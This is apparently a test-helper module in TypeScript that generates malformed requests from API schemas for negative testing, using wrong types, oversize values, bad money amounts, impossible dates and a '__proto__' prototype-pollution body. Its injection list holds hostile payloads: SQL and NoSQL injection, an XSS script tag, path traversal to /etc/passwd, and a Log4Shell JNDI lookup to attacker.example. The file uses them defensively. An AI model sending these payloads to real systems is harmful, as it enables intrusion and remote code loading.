import { Ajv, type ValidateFunction } from 'ajv';
import addFormats from 'ajv-formats';
import type { JSONSchema } from '@cpbo/schemas';

/*
 * Malformed requests generated from a route's own schemas (body, query, path parameters): a valid
 * instance of each schema, then each of its fields made wrong in one way at a time. ajv checks both:
 * the instance must be valid, and a field mutant is kept only when the schema refuses it, so that
 * every mutant is bad input whatever the schema allows. Two exceptions, which the schemas let through
 * and the product must refuse: money amounts with more than two decimals (schemas/money.ts), and days
 * of the right shape that no calendar has (2026-02-30).
 */

// The generator reads any JSON Schema keyword it knows; the others are left alone.
interface Schema {
  type?: string | string[];
  enum?: unknown[];
  pattern?: string;
  format?: string;
  minLength?: number;
  maxLength?: number;
  minimum?: number;
  maximum?: number;
  exclusiveMinimum?: number;
  properties?: Record<string, Schema>;
  required?: string[];
  minProperties?: number;
  maxProperties?: number;
  items?: Schema;
  $id?: string;
}

const ajv = new Ajv({ strict: false, allErrors: false });
addFormats.default(ajv);
const compiled = new WeakMap<object, ValidateFunction>();

/** The validator of a schema (one per schema object; two routes may share an object and its $id). */
export const validatorOf = (schema: JSONSchema): ValidateFunction => {
  let validate = compiled.get(schema as object);
  if (!validate) {
    const { $id } = schema as Schema;
    validate = ($id ? ajv.getSchema($id) : undefined) ?? ajv.compile(schema as object);
    compiled.set(schema as object, validate);
  }
  return validate;
};

const typesOf = (schema: Schema): string[] =>
  schema.type === undefined ? [] : Array.isArray(schema.type) ? schema.type : [schema.type];

// Candidates for a string of a pattern or format: the first that the schema accepts is taken.
const stringCandidates = [
  'abc',
  'Field work',
  '2026-01-01',
  '2026-01-01T00:00:00.000Z',
  'someone@example.org',
  '0f8c3a52-1d2b-4c3e-9f00-1234567890ab',
  'XOF',
  '1.0.0',
  `data:image/png;base64,${Buffer.from('image').toString('base64')}`,
];

/** A valid instance of the schema: every property it declares, or its required ones when that is too many. */
export const sampleOf = (schema: Schema): unknown => {
  if (schema.enum) return schema.enum[0];
  const type = typesOf(schema).find((candidate) => candidate !== 'null') ?? 'object';
  switch (type) {
    case 'string': {
      const fits = (text: string) => {
        try {
          return validatorOf({ ...schema, $id: undefined } as JSONSchema)(text);
        } catch {
          return false;
        }
      };
      return stringCandidates.find(fits) ?? 'abc';
    }
    case 'integer':
    case 'number': {
      const low = schema.exclusiveMinimum ?? schema.minimum ?? 0;
      return Math.min(low + 1, schema.maximum ?? Number.MAX_SAFE_INTEGER);
    }
    case 'boolean':
      return true;
    case 'array':
      return [];
    default: {
      const properties = Object.entries(schema.properties ?? {});
      const all = Object.fromEntries(properties.map(([name, property]) => [name, sampleOf(property)]));
      if (schema.maxProperties !== undefined && properties.length > schema.maxProperties) {
        const kept = schema.required?.length ? schema.required : properties.slice(0, 1).map(([name]) => name);
        return Object.fromEntries(kept.map((name) => [name, all[name]]));
      }
      return all;
    }
  }
};

const injections = [
  "' OR '1'='1' --",
  '<script>alert(1)</script>',
  '${jndi:ldap://attacker.example/x}',
  '../../../../etc/passwd',
  '{"$gt": ""}',
  'a\u0000b',
  '\u202Eevil',
  '%00%2e%2e%2f',
];
const wrongTypes: Record<string, unknown> = {
  string: 'text',
  number: 12.5,
  integer: 7,
  boolean: true,
  null: null,
  object: { nested: true },
  array: ['item'],
};

/** Values that break one field in one way each: wrong types, sizes, injections, bad numbers and dates. */
export const wrongValuesOf = (name: string, schema: Schema): { what: string; value: unknown }[] => {
  const types = typesOf(schema);
  const values: { what: string; value: unknown }[] = Object.entries(wrongTypes)
    .filter(([type]) => !types.includes(type))
    .map(([type, value]) => ({ what: `a ${type}`, value }));
  if (types.includes('string') || schema.enum) {
    values.push(
      { what: 'an empty string', value: '' },
      { what: 'a string over its limit', value: 'x'.repeat((schema.maxLength ?? 10_000) + 1) },
      { what: 'an unknown choice', value: 'NOT_ONE_OF_THEM' },
      ...injections.map((value) => ({ what: `an injection (${value.slice(0, 12)})`, value })),
    );
  }
  if (types.includes('number') || types.includes('integer')) {
    values.push(
      { what: 'a negative number', value: -1 },
      { what: 'zero', value: 0 },
      { what: 'a number as text', value: '10' },
      { what: 'a non-numeric text', value: 'ten' },
      { what: 'a huge number', value: 1e300 },
      { what: 'a fraction', value: 1.5 },
      { what: 'a date as text', value: '2026-01-01' },
      { what: 'a date in milliseconds', value: Date.parse('2026-01-01') * 1000 },
    );
    if (/amount|contrib/i.test(name)) {
      values.push(
        { what: 'a zero-cent amount', value: 0.001 },
        { what: 'a fraction of a cent', value: 10.005 },
        { what: 'a negative amount', value: -0.01 },
      );
    }
  }
  return values;
};

/** Money amounts the schema lets through but the product refuses (more than two decimals). */
const productRefuses = (name: string, value: unknown): boolean =>
  /amount|contrib/i.test(name) && typeof value === 'number' && Math.round(value * 100) !== value * 100;

export interface ObjectMutant {
  what: string;
  value: Record<string, unknown>;
}

/**
 * Each field of an object wrong in turn, each required field missing, an unknown field, and a
 * prototype key; the mutants that the schema (or the product's money rule) refuses.
 */
export const objectMutants = (schema: JSONSchema): ObjectMutant[] => {
  const shape = schema as Schema;
  const base = sampleOf(shape) as Record<string, unknown>;
  const validate = validatorOf(schema);
  const mutants: ObjectMutant[] = [];
  for (const [name, property] of Object.entries(shape.properties ?? {})) {
    for (const { what, value } of wrongValuesOf(name, property)) {
      mutants.push({ what: `${name}: ${what}`, value: { ...base, [name]: value } });
    }
    // A nested object's fields, one level down (the plot's enablerConfig).
    if (property.properties && base[name] && typeof base[name] === 'object') {
      for (const inner of objectMutants(property as JSONSchema)) {
        mutants.push({ what: `${name}.${inner.what}`, value: { ...base, [name]: inner.value } });
      }
    }
  }
  for (const name of shape.required ?? []) {
    const { [name]: _missing, ...rest } = base;
    mutants.push({ what: `${name} missing`, value: rest });
  }
  mutants.push({ what: 'an unknown field', value: { ...base, unexpectedField: 'x' } });
  // JSON.parse makes __proto__ an own key, as a server's parser does with a hostile body.
  mutants.push({
    what: 'a prototype key',
    value: Object.assign(JSON.parse('{"__proto__":{"role":"ADMIN"}}') as Record<string, unknown>, base),
  });
  return mutants.filter(({ what, value }) => {
    const field = what.split(':')[0] ?? '';
    return !validate(value) || productRefuses(field, value[field]);
  });
};

/** Text values of a query parameter or a path segment that a schema may refuse. */
export const wrongTexts = [
  '',
  'NOT_ONE_OF_THEM',
  '-1',
  '0',
  '1e3',
  'NaN',
  '9'.repeat(40),
  'x'.repeat(3000),
  ...injections,
];

/** Each parameter of a string map (query or decoded path) wrong in turn, and an unknown one; refused ones only. */
export const textMapMutants = (schema: JSONSchema | undefined, base: Record<string, string>) => {
  const validate = schema ? validatorOf(schema) : () => false;
  const mutants: { what: string; value: Record<string, string> }[] = [];
  for (const name of Object.keys((schema as Schema | undefined)?.properties ?? {})) {
    for (const text of wrongTexts) {
      mutants.push({
        what: `${name}=${JSON.stringify(text.slice(0, 16))}`,
        value: { ...base, [name]: text },
      });
    }
  }
  mutants.push({ what: 'an unknown parameter', value: { ...base, unexpected: '1' } });
  for (const [name, property] of Object.entries((schema as Schema | undefined)?.properties ?? {})) {
    const pattern = property.pattern ? new RegExp(property.pattern) : undefined;
    if (!pattern?.test('2026-01-01') || pattern.test('abc')) continue;
    for (const text of impossibleDates) {
      mutants.push({ what: `${name}=${text} (no such day)`, value: { ...base, [name]: text } });
    }
  }
  return mutants.filter(({ what, value }) => !validate(value) || what.endsWith('(no such day)'));
};

/** Days of the right shape that no calendar has: a pattern lets them through, the product must not. */
const impossibleDates = ['2026-13-01', '2026-02-30', '2026-00-10', '0000-00-00'];

/** A fixed-seed shuffle (mulberry32), so that a failing sample is the same at every run. */
export const seededShuffle = <Item>(items: Item[], seed: number): Item[] => {
  let state = seed >>> 0;
  const random = () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  const shuffled = [...items];
  for (let index = shuffled.length - 1; index > 0; index -= 1) {
    const other = Math.floor(random() * (index + 1));
    [shuffled[index], shuffled[other]] = [shuffled[other] as Item, shuffled[index] as Item];
  }
  return shuffled;
};
